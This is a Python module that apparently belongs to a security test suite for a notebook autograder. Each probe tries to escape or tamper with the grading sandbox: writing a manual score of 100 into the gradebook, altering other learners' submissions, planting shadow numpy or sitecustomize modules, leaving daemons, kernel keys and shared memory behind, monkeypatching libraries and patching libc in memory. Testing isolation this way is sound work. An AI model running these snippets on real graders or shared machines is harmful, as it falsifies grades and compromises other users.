"""Leftovers: files, processes, keys and shared memory for the next learner; work after grading; the gradebook."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from attack import (
    FILES,
    INSIDE_ONLY,
    LIMITS,
    NETWORK,
    NOTHING_GOT,
    PROCESSES,
    RIGHTS,
    SAY_GOT,
    WRITER,
    Attack,
    attempts,
    probe,
)

WRITE = """
import os
def write(path):
    with open(path, 'a') as file: file.write('@MARK@')
def make(path):
    os.makedirs(path)
"""
DAEMON = """
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b'@MARK@', 0, 0, 0)   # the name of the process
        for _ in range(600):
            time.sleep(0.1)
            try: open('@OUTSIDE@/@MARK@', 'a').write('x')
            except OSError: pass
    os._exit(0)
"""
KEYS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, REQUEST_KEY, KEYCTL = 248, 249, 250
USER, SESSION, USER_SESSION = -4, -3, -5
"""
SYSTEM_V = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x41545431
"""
HOLD = "import os, time\nheld = []\n"


def _beside(folder: Path, words: Mapping[str, str]) -> None:
    """Row 25: modules that stand before the real ones if the submission's folder is on the path."""
    code = f"import os\nos.environ['TAKEN'] = '1'\nopen({words['OUTSIDE'] + '/' + words['MARK']!r}, 'w')\n"
    for name in ("numpy", "torch", "attn_core", "autograder", "sitecustomize", "usercustomize", "json", "safetensors"):
        (folder / f"{name}.py").write_text(code, encoding="utf-8")
    (folder / "conftest.py").write_text(code, encoding="utf-8")
    (folder / "nbgrader_config.py").write_text(code, encoding="utf-8")
    (folder / "x.pth").write_text("import os; os.environ['TAKEN'] = '1'\n", encoding="utf-8")


PLACES = (
    "/tmp/@MARK@",
    "/var/tmp/@MARK@",
    "/dev/shm/@MARK@",
    "/dev/@MARK@",
    "/dev/mqueue/@MARK@",
    "/run/@MARK@",
    "/@MARK@",
    "/proc/@MARK@",
)

ATTACKS = (
    probe(
        "18",
        "Write a manual score into the gradebook",
        WRITER,
        "import sqlite3\ntry:\n    with sqlite3.connect('@COURSE@/gradebook.db') as db: db.execute('update grade set manual_score = 100'); got.append('written')\nexcept sqlite3.Error: pass",
    ),
    probe(
        "19",
        "Change the other learners' submitted, graded and feedback files",
        FILES,
        attempts(
            "write('@COURSE@/submitted/00/06_scaling/06_scaling.ipynb')",
            "write('@COURSE@/submitted/00/06_scaling/@MARK@')",
            "write('@COURSE@/autograded/@MARK@')",
            "write('@COURSE@/feedback/@MARK@')",
            "write('@COURSE@/journal/06_scaling.jsonl')",
            "write('@COURSE@/grades.csv')",
            "write('@COURSE@/secret')",
            setup=WRITE,
        ),
    ),
    Attack(
        "25",
        "Ship numpy.py, attn_core.py and others beside the notebook",
        FILES,
        folder=_beside,
        before="import os, sys\nopen('numpy.py', 'w').write('TAKEN = 1')\nsys.path.insert(0, os.getcwd())\ngot = [m for m in ('numpy', 'torch', 'json') if hasattr(sys.modules[m], 'TAKEN')] if 'json' in sys.modules else []\ngot += [k for k in os.environ if k == 'TAKEN']\nhow = 'after all attempts'",
        softmax=SAY_GOT,
        says=NOTHING_GOT,
    ),
    probe(
        "26",
        "Leave code for the next start: sitecustomize, .pth, IPython's start-up files, shell profiles",
        FILES,
        attempts(
            "write('@SITE@/@MARK@.pth')",
            "write('@SITE@/sitecustomize.py') if not os.path.exists('@SITE@/sitecustomize.py') else 1 / 0",
            "write('@SITE@/numpy/@MARK@.py')",
            "write('@HOME@/.ipython/profile_default/startup/@MARK@.py')",
            "write('@HOME@/@MARK@')",
            "write('/usr/lib/python3/@MARK@')",
            "write('@PROJECT@/@MARK@')",
            "write('@PROJECT@/autograder/@MARK@.py')",
            setup=INSIDE_ONLY + WRITE,
        ),
    ),
    probe(
        "27",
        "Poison the compiled files of a library",
        FILES,
        "import autograder, glob, os\nlibrary = os.path.dirname(autograder.__file__)\nfor path in [*glob.glob('@SITE@/numpy/__pycache__/*.pyc')[:3], *glob.glob(library + '/**/*.py', recursive=True)[:3]]:\n    try: open(path, 'r+b'); got.append(path)\n    except OSError: pass\nfor folder in ('@SITE@/numpy/__pycache__', library + '/__pycache__'):\n    try: open(os.path.join(folder, '@MARK@.pyc'), 'wb'); got.append(folder)\n    except OSError: pass",
    ),
    Attack(
        "28",
        "Work after grading, in atexit handlers and destructors",
        PROCESSES,
        before="import atexit, os, signal\ndef late(*_):\n    for folder in ('@OUTSIDE@', '@COURSE@', '/tmp'):\n        try: open(os.path.join(folder, '@MARK@'), 'w')\n        except OSError: pass\natexit.register(late)\nclass Late:\n    def __del__(self): late()\nlate_object = Late()\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE): signal.signal(s, late)",
    ),
    Attack(
        "29",
        "A daemon that outlives the grading and writes a file",
        PROCESSES,
        before=DAEMON,
        breaks_itself=True,
        says="softmax: ",
    ),
    Attack(
        "30",
        "End the own process with os._exit(0)",
        LIMITS,
        softmax="def softmax(scores, axis=-1):\n    import os\n    os._exit(0)",
        says="softmax: crashed",
    ),
    Attack(
        "L1",
        "Leave files in every writable place",
        FILES,
        before="import os\nleft = []\nfor place in "
        + repr(PLACES)
        + ":\n    try: open(place, 'w').write('@MARK@'); left.append(place)\n    except OSError: pass\nhome = os.path.expanduser('~/@MARK@')\nopen(home, 'w').write('@MARK@')",
    ),
    probe(
        "L2",
        "… and look for them as the next learner",
        FILES,
        "import os\nfor place in "
        + repr((*PLACES, "~/@MARK@"))
        + ":\n    if os.path.exists(os.path.expanduser(place)): got.append(place)\nfor folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue'):\n    if os.path.isdir(folder): got += [n for n in os.listdir(folder) if '@MARK@' in n]",
    ),
    Attack(
        "L3",
        "Listen on an abstract socket, on TCP, on UDP",
        NETWORK,
        before="import socket\nopen_sockets = []\nfor family, kind, address in ((socket.AF_UNIX, socket.SOCK_STREAM, '\\0@MARK@'), (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @FREE@)), (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @FREE@))):\n    try:\n        s = socket.socket(family, kind); s.bind(address)\n        if kind == socket.SOCK_STREAM: s.listen()\n        open_sockets.append(s)\n    except OSError: pass",
    ),
    probe(
        "L4",
        "… and connect to them as the next learner",
        NETWORK,
        "import socket\nfor family, address in ((socket.AF_UNIX, '\\0@MARK@'), (socket.AF_INET, ('127.0.0.1', @FREE@))):\n    try:\n        socket.socket(family).connect(address); got.append(address)\n    except OSError: pass",
    ),
    Attack(
        "L5",
        "Leave a key in the kernel's keyrings",
        RIGHTS,
        before=KEYS
        + "for ring in (USER, SESSION, USER_SESSION): libc.syscall(ADD_KEY, b'user', b'@MARK@', b'note', 4, ring)\nlibc.syscall(KEYCTL, 5, USER, 0x3f3f3f3f)",
    ),
    probe(
        "L6",
        "… and look for it as the next learner",
        RIGHTS,
        KEYS
        + "for ring in (USER, SESSION, USER_SESSION):\n    if libc.syscall(KEYCTL, 10, ring, b'user', b'@MARK@', 0) > 0: got.append(ring)",
    ),
    Attack(
        "L7",
        "Leave System V shared memory, semaphores and message queues",
        PROCESSES,
        before=SYSTEM_V
        + "for make in (lambda: libc.shmget(KEY, 4096, 0o1666), lambda: libc.semget(KEY, 1, 0o1666), lambda: libc.msgget(KEY, 0o1666)): make()",
    ),
    probe(
        "L8",
        "… and look for them as the next learner",
        PROCESSES,
        SYSTEM_V
        + "for name, find in (('shm', lambda: libc.shmget(KEY, 4096, 0)), ('sem', lambda: libc.semget(KEY, 1, 0)), ('msg', lambda: libc.msgget(KEY, 0))):\n    if find() >= 0: got.append(name)",
    ),
    Attack(
        "L9",
        "Leave a POSIX message queue and a named semaphore",
        PROCESSES,
        before="import ctypes\nlibc = ctypes.CDLL(None)\ntry: libc.mq_open(b'/@MARK@', 0o102, 0o666, None)\nexcept AttributeError: pass\ntry: libc.sem_open(b'/@MARK@', 0o100, 0o666, 1)\nexcept AttributeError: pass",
    ),
    probe(
        "L10",
        "… and look for them as the next learner",
        PROCESSES,
        "import ctypes, os\nlibc = ctypes.CDLL(None)\ntry:\n    if libc.mq_open(b'/@MARK@', 2) >= 0: got.append('queue')\nexcept AttributeError: pass\nif os.path.exists('/dev/shm/sem.@MARK@'): got.append('semaphore')",
    ),
    Attack(
        "L11",
        "Patch NumPy, torch and the player in memory for whoever shares the process",
        PROCESSES,
        before="import sys\nfor module in (np, torch, sys.modules['autograder.checking.probe'], sys.modules['autograder.judge.player'], sys.modules['autograder.judge.wire']): module.TAKEN = 1\nnp.abs = np.add = np.exp = lambda *a, **k: np.zeros(1)\ntorch.matmul = torch.zeros_like",
        breaks_itself=True,
        says="softmax",
    ),
    probe(
        "L12",
        "… and look for the patches as the next learner",
        PROCESSES,
        "import sys\nfor module in list(sys.modules.values()):\n    if 'TAKEN' in vars(module): got.append(module.__name__)\nif np.exp(np.zeros(1))[0] != 1: got.append('exp')",
    ),
    Attack(
        "L13",
        "Use up inotify instances, pipes, locked memory and pending signals of the user",
        LIMITS,
        before="import ctypes\nlibc = ctypes.CDLL(None)\nkept = [libc.inotify_init1(0) for _ in range(140)]\nkept2 = [libc.eventfd(0, 0) for _ in range(60)]\nlibc.mlockall(1)",
    ),
    Attack(
        "L14",
        "Hold leases and locks on the libraries' files",
        FILES,
        before="import autograder, fcntl, glob, os\nheld = []\nfor path in [*glob.glob('@SITE@/numpy/*.py')[:20], *glob.glob(os.path.dirname(autograder.__file__) + '/**/*.py', recursive=True)]:\n    try:\n        f = open(path); held.append(f)\n        fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)\n        fcntl.fcntl(f, 1024, fcntl.F_RDLCK)\n    except OSError: pass",
    ),
    Attack(
        "L15",
        "Change the library's code in memory through ctypes and mprotect",
        PROCESSES,
        before="import ctypes\nlibc = ctypes.CDLL(None)\nlibc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)\naddress = ctypes.cast(libc.getppid, ctypes.c_void_p).value & ~4095\nif libc.mprotect(address, 4096, 7) == 0: ctypes.memset(ctypes.cast(libc.getppid, ctypes.c_void_p), 0xC3, 1)",
    ),
)
